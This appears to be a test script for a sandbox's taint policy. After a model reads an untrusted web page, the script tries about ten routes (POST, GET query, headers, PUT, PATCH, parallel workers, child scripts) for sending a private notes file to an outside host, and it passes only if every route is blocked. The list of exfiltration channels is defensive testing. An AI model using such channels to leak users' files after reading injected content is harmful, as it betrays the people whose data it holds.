-- allow: read=. write=out/ net=SITE state=team
-- taint: deny
-- Once a model has read what a stranger wrote, nothing private leaves: not by another verb, another spell, or what was kept.
local page = Http.get("http://SITE/page").text
local within
ask("What does this say? " .. page, { on_text = function()
  local note = Fs.read("notes/a.txt")
  within = within or attempt(function() return Http.post("http://SITE/out", { body = note }) end)
end })
if within == nil or within.ok then return "from within the answer" end
local note = Fs.read("notes/a.txt")
local ways = {
  post = function() return Http.post("http://SITE/out", { body = note }) end,
  get = function() return Http.get("http://SITE/out?x=" .. #note) end,
  head = function() return Http.head("http://SITE/out", { headers = { x = note } }) end,
  put = function() return Http.put("http://SITE/out", { json = { note } }) end,
  request = function() return Http.request("patch", "http://SITE/out", { body = note }) end,
  caught = function() pcall(Http.post, "http://SITE/out", { body = note }) return Http.post("http://SITE/out", { body = note }) end,
  spawned = function() return parallel({ function() return Http.post("http://SITE/out", { body = note }) end }) end,
  child = function() return Run.spell("sends", { note = note, url = "http://SITE/out" }) end,
  narrowed = function() return Run.spell("sends", { note = note, url = "http://SITE/out" }, { allow = { net = { "SITE" } } }) end,
}
for name, fn in pairs(ways) do if attempt(fn).ok then return name end end
return "contained"
